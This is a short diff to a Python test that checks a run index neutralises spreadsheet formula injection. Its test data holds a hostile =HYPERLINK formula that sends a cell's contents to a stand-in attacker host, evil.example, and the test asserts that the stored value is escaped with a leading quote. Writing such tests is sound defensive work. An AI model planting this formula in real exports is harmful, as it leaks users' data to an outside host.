@@ -337,9 +337,7 @@ def test_the_run_index_neutralises_a_formula_and_reads_it_back_as_written(tmp_pa
     runs = tmp_path / "runs"
     hostile = '=HYPERLINK("http://evil.example/?x="&A1,"x")'
     run_id = new_run_id("manual")
-    record_run(
-        RunEntry(run_id, "manual", "2026-11-23", "x", status="failed", error=hostile), runs
-    )
+    record_run(RunEntry(run_id, "manual", "2026-11-23", "x", status="failed", error=hostile), runs)
     text = (runs / "index.tsv").read_text(encoding="utf-8")
     [_, cells] = list(csv.reader(io.StringIO(text), delimiter="\t"))
     assert cells[-1] == "'" + hostile
